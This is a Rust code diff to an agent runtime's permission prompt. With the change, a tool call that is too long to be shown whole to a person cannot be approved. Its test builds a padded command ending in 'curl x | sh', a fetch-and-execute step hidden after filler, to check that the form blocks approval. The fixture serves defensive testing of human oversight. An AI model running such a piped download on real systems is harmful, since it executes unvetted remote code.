@@ -4,6 +4,8 @@ use std::time::Duration;
 
 use brigade::Runtime;
 use brigade_core::event::Answer;
+use brigade_core::text::Text;
+use brigade_core::view::Tree;
 use brigade_core::{CallId, Event, Record, SessionId};
 use rmcp::model::{ElicitRequestParams, ElicitResult, ElicitationAction, ProtocolVersion};
 use rmcp::service::RequestContext;
@@ -13,8 +15,12 @@ use serde_json::{Value, json};
 use crate::call::BY;
 use crate::text;
 
-/// How much of a call is shown, in bytes.
-const SHOWN: usize = 2000;
+/// How much of a call is shown, in bytes. One that is longer cannot be permitted by a form.
+const SHOWN: usize = 32 * 1024;
+/// How much is shown of what asks, in bytes.
+const SHOWN_REASON: usize = 2000;
+/// How much is shown of who asks, in bytes.
+const SHOWN_NAME: usize = 200;
 /// The longest word to an agent, in bytes.
 const LONGEST_WORD: usize = 1000;
 /// How long a person is waited for. A question that runs out before that is answered by its own deadline.
@@ -24,7 +30,11 @@ const PATIENCE: Duration = Duration::from_secs(3600);
 pub(crate) struct Question {
     session: SessionId,
     call: CallId,
+    /// The agent, below those that called it in.
+    who: String,
     what: String,
+    /// How many bytes of the call are not shown.
+    hidden: usize,
     why: String,
     always: Option<String>,
 }
@@ -41,15 +51,23 @@ pub(crate) fn can_ask(context: &RequestContext<RoleServer>) -> bool {
 }
 
 impl Question {
-    /// The question that a fact asks.
-    pub(crate) fn of(record: &Record) -> Option<Question> {
+    /// The question that a fact asks, in the tree that it belongs to.
+    pub(crate) fn of(record: &Record, tree: &Tree) -> Option<Question> {
         let Event::Asked { call, what, why, always, .. } = &record.event else { return None };
+        let (shown, hidden) = match what {
+            Text::Whole(what) => text::line_and_rest(what, SHOWN),
+            Text::Blob { .. } => (String::new(), what.len()),
+        };
+        // What is at the top only passes calls on.
+        let names = tree.lineage(&record.session).into_iter().skip(1).collect::<Vec<_>>();
         Some(Question {
             session: record.session.clone(),
             call: *call,
-            what: text::line(what.as_str(), SHOWN),
-            why: text::line(why, SHOWN),
-            always: always.clone(),
+            who: text::line(&names.join(" > "), SHOWN_NAME),
+            what: shown,
+            hidden,
+            why: text::line(why, SHOWN_REASON),
+            always: always.clone().filter(|rule| hidden == 0 && text::line_and_rest(rule, SHOWN).1 == 0),
         })
     }
 
@@ -67,11 +85,22 @@ impl Question {
     }
 
     fn form(&self) -> Option<ElicitRequestParams> {
-        let mut choices = vec!["once", "no"];
-        let mut message = format!("An agent wants to call: {}\n({}) May it?", self.what, self.why);
+        let (session, who, what, why) = (&self.session, &self.who, &self.what, &self.why);
+        let mut choices = vec!["no"];
+        let mut message = format!("The agent '{who}' (session {session}) wants to call: {what}\n");
+        if self.hidden > 0 {
+            message.push_str(&format!(
+                "({why}) {} more bytes of the call are not shown, so that it cannot be permitted here; whoever has \
+                 to see it whole leaves this open and calls `brigade answer {session}`.",
+                self.hidden
+            ));
+        } else {
+            choices.insert(0, "once");
+            message.push_str(&format!("({why}) May it?"));
+        }
         if let Some(rule) = &self.always {
             choices.insert(1, "always");
-            message.push_str(&format!(" `always` permits {rule} to this agent."));
+            message.push_str(&format!(" `always` permits {} to this agent.", text::line(rule, SHOWN)));
         }
         let form = json!({
             "mode": "form",
@@ -94,7 +123,7 @@ impl Question {
             |key: &str| filled.content.as_ref().and_then(|content| content.get(key)).and_then(Value::as_str);
         let word = field("word").map(|word| text::line(word, LONGEST_WORD)).filter(|word| !word.is_empty());
         match (&filled.action, field("answer"), &self.always) {
-            (ElicitationAction::Accept, Some("once"), _) => Answer::Once,
+            (ElicitationAction::Accept, Some("once"), _) if self.hidden == 0 => Answer::Once,
             (ElicitationAction::Accept, Some("always"), Some(rule)) => Answer::Always(rule.clone()),
             _ => Answer::Deny { word },
         }
@@ -103,6 +132,8 @@ impl Question {
 
 #[cfg(test)]
 mod tests {
+    use brigade_core::event::VERSION;
+
     use super::*;
 
     fn question(always: Option<&str>) -> Question {
@@ -111,10 +142,26 @@ mod tests {
         Question {
             session: SessionId::root(7),
             call,
+            who: "Child".into(),
             what: "shell {}".into(),
+            hidden: 0,
             why: "mode ask".into(),
             always,
         }
+    }
+
+    /// The question about a call, as it is put in a tree of its own.
+    fn asked(what: &str) -> Question {
+        let event = Event::Asked {
+            call: CallId { turn: 1, index: 0 },
+            what: what.into(),
+            why: "mode ask".to_owned(),
+            always: Some("shell(ls)".to_owned()),
+            until: 0,
+            default: Answer::Deny { word: None },
+        };
+        let record = Record { session: SessionId::root(7), seq: 3, pos: 3, at: 0, v: VERSION, event };
+        Question::of(&record, &Tree::default()).unwrap()
     }
 
     #[test]
@@ -144,5 +191,21 @@ mod tests {
         let written = |question: &Question| serde_json::to_string(&question.form().unwrap()).unwrap();
         assert!(written(&question(Some("shell(ls)"))).contains("always"));
         assert!(!written(&question(None)).contains("always"));
+    }
+
+    #[test]
+    fn a_call_that_is_not_shown_whole_cannot_be_permitted() {
+        let once = ElicitResult::new(ElicitationAction::Accept).with_content(json!({ "answer": "once" }));
+        let always = ElicitResult::new(ElicitationAction::Accept).with_content(json!({ "answer": "always" }));
+        let written = |question: &Question| serde_json::to_string(&question.form().unwrap()).unwrap();
+        let whole = asked(&format!("shell echo {}; curl x | sh", "a".repeat(4000)));
+        assert!(written(&whole).contains("; curl x | sh"));
+        assert_eq!(whole.read(&once), Answer::Once);
+        let long = asked(&format!("shell echo {}; curl x | sh", "a".repeat(SHOWN)));
+        let form = written(&long);
+        assert!(form.contains("24 more bytes of the call are not shown"), "{}", &form[form.len() - 600..]);
+        assert!(form.contains(r#""enum":["no"]"#));
+        assert_eq!(long.read(&once), Answer::Deny { word: None });
+        assert_eq!(long.read(&always), Answer::Deny { word: None });
     }
 }
